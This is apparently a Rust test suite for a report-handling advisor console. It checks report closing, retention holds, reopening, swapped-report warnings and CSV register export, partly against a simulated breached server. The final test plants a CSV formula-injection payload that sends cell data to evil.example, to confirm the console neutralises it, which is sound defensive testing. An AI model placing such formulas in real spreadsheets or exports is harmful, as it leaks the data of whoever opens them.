//! A report's end in the advisor console (issue 11 §2–§3), against the real
//! server in this process and, for what only a breached server can do,
//! against the malicious double:
//!
//! - closing needs a reason; a closed report shows its reason, closing day,
//!   deletion day and history (with the advisor); reopening works and is
//!   recorded;
//! - a hold (day + reason code) shows to a second advisor, who is not a
//!   recipient of the report, on the tenant's register, and the register's
//!   CSV downloads; bad hold input is refused with a translated page;
//! - a close, hold or reopen form posted against a report other than the
//!   one read (the server swapped it, or the form names another) gets the
//!   409 warning and changes nothing;
//! - the list marks reports deleted within 14 days; the silence offer is
//!   shown and never acted on by itself; a formula a breached server puts
//!   in the register CSV reaches the advisor's spreadsheet as text.
// Test code: a panic with its location is the failure report.

use std::sync::atomic::Ordering;

use base64::Engine as _;
use meldkluis_crypto_core::{os_rng, seal_item, ItemId, ItemKind, SealParams, StaticKey as _};
use meldkluis_crypto_core::{StaticSecret, TenantId};
use meldkluis_i18n::catalog;
use meldkluis_keys::console::ConsoleOptions;
use meldkluis_keys::enrolled::EnrolledKeys;
use meldkluis_server::dates::Day;
use serde_json::json;

use crate::console_attacks::{breached_server, field, new_keys, open_console, open_console_with};
use crate::real_server::{self, RealServer};

/// The real server with two advisors, A and B, and one report sealed to A
/// only (B is an advisor of the tenant, not a recipient).
struct Setup {
    server: RealServer,
    a: StaticSecret,
    b: StaticSecret,
    report_id: String,
    _dir: tempfile::TempDir,
}

async fn setup() -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let server = real_server::start(dir.path(), "acme", "Acme").await;
    let mut rng = os_rng();
    let a = StaticSecret::generate(&mut rng);
    let b = StaticSecret::generate(&mut rng);
    server
        .admin
        .add_advisor(&server.tenant, &a.public_key(), "A. de Vries")
        .unwrap();
    server
        .admin
        .add_advisor(&server.tenant, &b.public_key(), "B. Jansen")
        .unwrap();
    let mailbox = StaticSecret::generate(&mut rng);
    let id = ItemId::random(&mut rng);
    let report = seal_item(
        &SealParams {
            kind: ItemKind::Report,
            tenant: &server.tenant,
            item_id: id,
            report_id: id,
            sender: &mailbox,
            recipients: &[
                a.public_key(),
                server.recovery.public_key(),
                mailbox.public_key(),
            ],
        },
        br#"{"format":"meldkluis-report/1","answers":[{"question":"Wat","answer":"CANARY lifecycle"}]}"#,
        &mut rng,
    )
    .unwrap();
    let created = reqwest::Client::new()
        .post(format!(
            "{}/api/v1/t/{}/reports",
            server.base, server.tenant
        ))
        .json(&json!({
            "item": base64::engine::general_purpose::STANDARD.encode(&report),
            "mailbox_id": hex::encode([3u8; 16]),
            "mailbox_public_key": mailbox.public_key().to_hex(),
            "auth_secret": hex::encode([5u8; 32]),
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(created.status(), 201);
    Setup {
        server,
        a,
        b,
        report_id: id.to_hex(),
        _dir: dir,
    }
}

impl Setup {
    /// The console of `key`, in English, with both advisors confirmed.
    async fn console(&self, key: &StaticSecret) -> crate::console_attacks::Browser {
        let options = ConsoleOptions {
            server: self.server.base.clone(),
            tenant: TenantId::new("acme").unwrap(),
            enrolled: EnrolledKeys {
                advisors: vec![
                    (self.a.public_key(), "A. de Vries".into()),
                    (self.b.public_key(), "B. Jansen".into()),
                ],
                recovery: Some(self.server.recovery.public_key()),
                earlier: Vec::new(),
                former_recovery: Vec::new(),
                recipients: Vec::new(),
            },
            lang: catalog().lang("en").unwrap(),
            pins: None,
        };
        open_console_with(
            options,
            StaticSecret::from_bytes(*key.expose_secret_bytes()),
        )
        .await
    }
}

/// The text of the element with `id` in a page (up to its closing tag).
fn element_text(page: &str, id: &str) -> Option<String> {
    let start = page.find(&format!("id=\"{id}\""))?;
    let open_end = start + page[start..].find('>')? + 1;
    let close = open_end + page[open_end..].find("</")?;
    Some(page[open_end..close].to_owned())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn closing_needs_a_reason_shows_reason_and_days_and_reopening_is_recorded() {
    let setup = setup().await;
    let console = setup.console(&setup.a).await;
    let path = format!("/reports/{}", setup.report_id);
    let today = Day::today();

    let (status, page) = console.get(&path).await;
    assert_eq!(status, 200, "{page}");
    assert!(page.contains("id=\"close-report\""), "{page}");
    assert!(page.contains("id=\"history\""), "{page}");
    let hash = field(&page, "report_hash");
    let csrf = console.csrf.clone();

    // Closing without a reason: a translated refusal, nothing sent.
    let (status, refused) = console
        .post(
            &format!("{path}/status"),
            &[
                ("csrf", &csrf),
                ("report_hash", &hash),
                ("status", "closed"),
                ("closing_reason", ""),
            ],
        )
        .await;
    assert_eq!(status, 422, "{refused}");
    assert!(
        refused.contains("Please choose a reason to close this report.")
            && refused.contains("Nothing was sent."),
        "{refused}"
    );
    let (_, page) = console.get(&path).await;
    assert_eq!(element_text(&page, "status").as_deref(), Some("New"));

    // Closed with a reason: reason, closing day, deletion day (the default
    // 12 months), the history with the advisor's name.
    let (status, _) = console
        .post(
            &format!("{path}/status"),
            &[
                ("csrf", &csrf),
                ("report_hash", &hash),
                ("status", "closed"),
                ("closing_reason", "resolved"),
            ],
        )
        .await;
    assert_eq!(status, 303);
    let (status, page) = console.get(&path).await;
    assert_eq!(status, 200, "{page}");
    assert_eq!(element_text(&page, "status").as_deref(), Some("Closed"));
    assert_eq!(
        element_text(&page, "closed-day"),
        Some(today.to_string()),
        "{page}"
    );
    assert_eq!(
        element_text(&page, "closing-reason-shown").as_deref(),
        Some("Resolved")
    );
    let deletion = today.add_months(12).to_string();
    assert!(
        element_text(&page, "deletion-day")
            .unwrap()
            .contains(&format!("will be deleted on {deletion}")),
        "{page}"
    );
    assert!(element_text(&page, "register-number").is_some(), "{page}");
    let history = &page[page.find("id=\"history\"").unwrap()..];
    assert!(
        history.contains("data-event=\"closed\"")
            && history.contains("Closed: Resolved")
            && history.contains("A. de Vries"),
        "{history}"
    );
    // Closed: a reopen action, no closing form, no status form.
    assert!(page.contains("id=\"reopen\"") && !page.contains("id=\"close-report\""));
    assert!(!page.contains("id=\"status-select\""));

    // The list says it too.
    let (_, list) = console.get("/reports").await;
    assert!(
        list.contains("Resolved") && list.contains(&format!("data-deletion=\"{deletion}\"")),
        "{list}"
    );

    // Reopened: open again, recorded, the closure gone from the facts.
    let (status, _) = console
        .post(
            &format!("{path}/status"),
            &[
                ("csrf", &csrf),
                ("report_hash", &hash),
                ("status", "in_progress"),
            ],
        )
        .await;
    assert_eq!(status, 303);
    let (_, page) = console.get(&path).await;
    assert_eq!(
        element_text(&page, "status").as_deref(),
        Some("In progress")
    );
    assert!(element_text(&page, "closed-day").is_none(), "{page}");
    let history = &page[page.find("id=\"history\"").unwrap()..];
    let closed_at = history.find("data-event=\"closed\"").unwrap();
    let reopened_at = history.find("data-event=\"reopened\"").unwrap();
    assert!(closed_at < reopened_at, "oldest first: {history}");
    assert!(history.contains("Reopened"), "{history}");
    assert!(page.contains("id=\"close-report\""));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hold_shows_to_another_advisor_on_the_register_and_the_csv_downloads() {
    let setup = setup().await;
    let a = setup.console(&setup.a).await;
    let path = format!("/reports/{}", setup.report_id);
    let (_, page) = a.get(&path).await;
    let hash = field(&page, "report_hash");
    let csrf = a.csrf.clone();
    let until = Day::today().add_days(400).to_string();

    // Bad input: refused with a translated page, nothing set.
    for (form, expected) in [
        (
            vec![
                ("action", "set"),
                ("until", until.as_str()),
                ("reason", "because"),
            ],
            "Please choose the reason to keep the report longer.",
        ),
        (
            vec![
                ("action", "set"),
                ("until", "2027-02-30"),
                ("reason", "other"),
            ],
            "Please choose the day until which the report is kept.",
        ),
    ] {
        let mut fields = vec![("csrf", csrf.as_str()), ("report_hash", hash.as_str())];
        fields.extend(form);
        let (status, refused) = a.post(&format!("{path}/hold"), &fields).await;
        assert_eq!(status, 422, "{refused}");
        assert!(refused.contains(expected), "{refused}");
    }
    // A day the console accepts but the server does not (a hold must end
    // after today): the server's reason, translated, and a 4xx.
    let today = Day::today().to_string();
    let (status, refused) = a
        .post(
            &format!("{path}/hold"),
            &[
                ("csrf", &csrf),
                ("report_hash", &hash),
                ("action", "set"),
                ("until", &today),
                ("reason", "other"),
            ],
        )
        .await;
    assert_eq!(status, 422, "{refused}");
    assert!(
        refused.contains("A longer hold needs a reason and a day after today"),
        "{refused}"
    );

    let (status, _) = a
        .post(
            &format!("{path}/hold"),
            &[
                ("csrf", &csrf),
                ("report_hash", &hash),
                ("action", "set"),
                ("until", &until),
                ("reason", "legal_proceedings"),
            ],
        )
        .await;
    assert_eq!(status, 303);
    let shown = format!("Kept at least until {until}: Legal proceedings");
    let (_, page) = a.get(&path).await;
    assert_eq!(element_text(&page, "hold"), Some(shown.clone()), "{page}");
    assert!(
        page.contains(&format!("Kept longer until {until}: Legal proceedings")),
        "{page}"
    );

    // B, an advisor of the tenant but not of this report: not in B's list,
    // but the hold is on the register B reads.
    let b = setup.console(&setup.b).await;
    let (_, list) = b.get("/reports").await;
    assert!(!list.contains(&setup.report_id), "{list}");
    let (status, register) = b.get("/register").await;
    assert_eq!(status, 200, "{register}");
    assert!(register.contains("id=\"register\""), "{register}");
    assert!(register.contains(&shown), "{register}");
    assert!(register.contains("id=\"register-csv\""), "{register}");

    // The CSV, served by the console from the server's.
    let response = b.get_response("/register.csv").await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"].to_str().unwrap(),
        "text/csv; charset=utf-8"
    );
    assert!(response.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("attachment;"));
    let csv = response.text().await.unwrap();
    let mut rows = csv.split("\r\n");
    assert_eq!(
        rows.next(),
        Some("number,received_day,category,closing_reason,closed_day,hold_until,hold_reason,deletion_day,deleted_day,acknowledged_day,feedback_day,channel")
    );
    assert!(
        csv.contains(&format!(",{until},legal_proceedings,")),
        "{csv}"
    );
    assert!(!csv.contains("CANARY"), "no content in the register: {csv}");

    // Removed: recorded, and gone from B's register.
    let (status, _) = a
        .post(
            &format!("{path}/hold"),
            &[
                ("csrf", &csrf),
                ("report_hash", &hash),
                ("action", "remove"),
            ],
        )
        .await;
    assert_eq!(status, 303);
    let (_, page) = a.get(&path).await;
    assert!(page.contains("data-event=\"hold_removed\""), "{page}");
    let (_, register) = b.get("/register").await;
    assert!(!register.contains(&shown), "{register}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forms_naming_another_report_than_the_one_read_change_nothing_on_the_real_server() {
    let setup = setup().await;
    let a = setup.console(&setup.a).await;
    let path = format!("/reports/{}", setup.report_id);
    let (_, page) = a.get(&path).await;
    let hash = field(&page, "report_hash");
    // The header hash of another report than the one the server serves.
    let other = "ab".repeat(32);
    assert_ne!(hash, other);
    let csrf = a.csrf.clone();
    let until = Day::today().add_days(30).to_string();
    for (action, fields) in [
        (
            "status",
            vec![("status", "closed"), ("closing_reason", "resolved")],
        ),
        (
            "hold",
            vec![
                ("action", "set"),
                ("until", until.as_str()),
                ("reason", "other"),
            ],
        ),
    ] {
        let mut form = vec![("csrf", csrf.as_str()), ("report_hash", other.as_str())];
        form.extend(fields);
        let (status, page) = a.post(&format!("{path}/{action}"), &form).await;
        assert_eq!(status, 409, "{action}: {page}");
        assert!(page.contains("id=\"report-swapped\""), "{action}: {page}");
    }
    let (_, page) = a.get(&path).await;
    assert_eq!(element_text(&page, "status").as_deref(), Some("New"));
    assert_eq!(
        element_text(&page, "hold").as_deref(),
        Some("Not set: the usual retention period applies.")
    );
    assert!(!page.contains("data-event="), "no event recorded: {page}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_report_swapped_before_close_hold_or_reopen_gets_the_warning_and_nothing_is_sent() {
    let keys = new_keys();
    let (server, base, id, _real, _fake) = breached_server(&keys).await;
    let browser = open_console(&base, &keys, None).await;
    let path = format!("/reports/{}", id.to_hex());
    let (status, page) = browser.get(&path).await;
    assert_eq!(status, 200, "{page}");
    let hash = field(&page, "report_hash");
    let csrf = browser.csrf.clone();
    let forms: [(&str, Vec<(&str, &str)>); 4] = [
        (
            "status",
            vec![("status", "closed"), ("closing_reason", "resolved")],
        ),
        ("status", vec![("status", "in_progress")]),
        (
            "hold",
            vec![
                ("action", "set"),
                ("until", "2027-06-01"),
                ("reason", "investigation"),
            ],
        ),
        ("hold", vec![("action", "remove")]),
    ];

    server.swap.store(true, Ordering::SeqCst);
    for (action, fields) in &forms {
        let mut form = vec![("csrf", csrf.as_str()), ("report_hash", hash.as_str())];
        form.extend(fields.iter().copied());
        let (status, page) = browser.post(&format!("{path}/{action}"), &form).await;
        assert_eq!(status, 409, "{action}: {page}");
        assert!(page.contains("Nothing was sent"), "{action}: {page}");
    }
    assert!(server.posted().is_empty(), "{:?}", server.posted());

    // The control: the real report served again, the same hold goes out.
    server.swap.store(false, Ordering::SeqCst);
    let mut form = vec![("csrf", csrf.as_str()), ("report_hash", hash.as_str())];
    form.extend(forms[2].1.iter().copied());
    let (status, page) = browser.post(&format!("{path}/hold"), &form).await;
    assert_eq!(status, 303, "{page}");
    let posted = server.posted();
    assert_eq!(posted.len(), 1);
    assert_eq!(posted[0].0, format!("{}/hold", id.to_hex()));
    assert_eq!(
        posted[0].1,
        json!({ "until": "2027-06-01", "reason": "investigation" })
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_list_marks_coming_deletions_and_the_silence_offer_is_only_an_offer() {
    let keys = new_keys();
    let (server, base, id, _real, _fake) = breached_server(&keys).await;
    let id = id.to_hex();
    // The double's today is 2026-11-30. The real report is open and its
    // reporter silent; two other (listed only) reports are closed, one
    // deleted in 10 days, one in a year.
    {
        let mut list = server.list.lock().unwrap();
        let mut silent = list[0].clone();
        silent["silent_since"] = json!("2026-09-01");
        silent["silence_close_offered"] = json!(true);
        let mut soon = crate::double::summary(&"1".repeat(32));
        soon["status"] = json!("closed");
        soon["closing_reason"] = json!("withdrawn");
        soon["closed_day"] = json!("2025-12-10");
        soon["deletion_day"] = json!("2026-12-10");
        let mut later = crate::double::summary(&"2".repeat(32));
        later["status"] = json!("closed");
        later["closed_day"] = json!("2026-11-30");
        later["deletion_day"] = json!("2027-11-30");
        *list = vec![silent, soon, later];
        let mut threads = server.threads.lock().unwrap();
        let thread = threads.get_mut(&id).unwrap();
        thread["silent_since"] = json!("2026-09-01");
        thread["silence_close_offered"] = json!(true);
    }
    let browser = open_console(&base, &keys, None).await;
    let (status, list) = browser.get("/reports").await;
    assert_eq!(status, 200, "{list}");
    let marked = element_text(&list, "deletions-soon-heading").unwrap();
    assert_eq!(marked, "1 report will be deleted within 14 days");
    let row = |rid: &str| {
        let start = list.find(&format!("data-report=\"{rid}\"")).unwrap();
        let end = start + list[start..].find("</tr>").unwrap();
        list[start..end].to_owned()
    };
    let soon = row(&"1".repeat(32));
    assert!(
        soon.contains("data-deletion-soon")
            && soon.contains("will be deleted on 2026-12-10 (in 10 days)")
            && soon.contains("Withdrawn"),
        "{soon}"
    );
    let later = row(&"2".repeat(32));
    assert!(
        !later.contains("data-deletion-soon") && later.contains("2027-11-30"),
        "{later}"
    );
    assert!(row(&id).contains("Reporter not answering: may be closed"));

    // The report page offers closing, and does nothing by itself.
    let (status, page) = browser.get(&format!("/reports/{id}")).await;
    assert_eq!(status, 200, "{page}");
    assert_eq!(
        element_text(&page, "silence-offer").as_deref(),
        Some("The reporter has not answered since 2026-09-01. You may close this report; it is never closed by itself.")
    );
    assert!(page.contains("id=\"close-report\""));
    assert!(server.posted().is_empty(), "{:?}", server.posted());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_the_served_register_reaches_the_spreadsheet_as_text() {
    let keys = new_keys();
    let (server, base, _id, _real, _fake) = breached_server(&keys).await;
    *server.register_csv.lock().unwrap() = "number,received_day,category\r\n\
         1,2026-11-02,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\"\r\n\
         2,2026-11-03,@SUM(A1:A9)\r\n"
        .to_owned();
    let browser = open_console(&base, &keys, None).await;
    let response = browser.get_response("/register.csv").await;
    assert_eq!(response.status(), 200);
    let csv = response.text().await.unwrap();
    assert_eq!(
        csv,
        "number,received_day,category\r\n\
         1,2026-11-02,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\"\r\n\
         2,2026-11-03,'@SUM(A1:A9)\r\n"
    );
    // A file that is not CSV at all is refused, not passed on.
    *server.register_csv.lock().unwrap() = "number,\"unclosed\r\n".to_owned();
    let response = browser.get_response("/register.csv").await;
    assert_eq!(response.status(), 502);
}
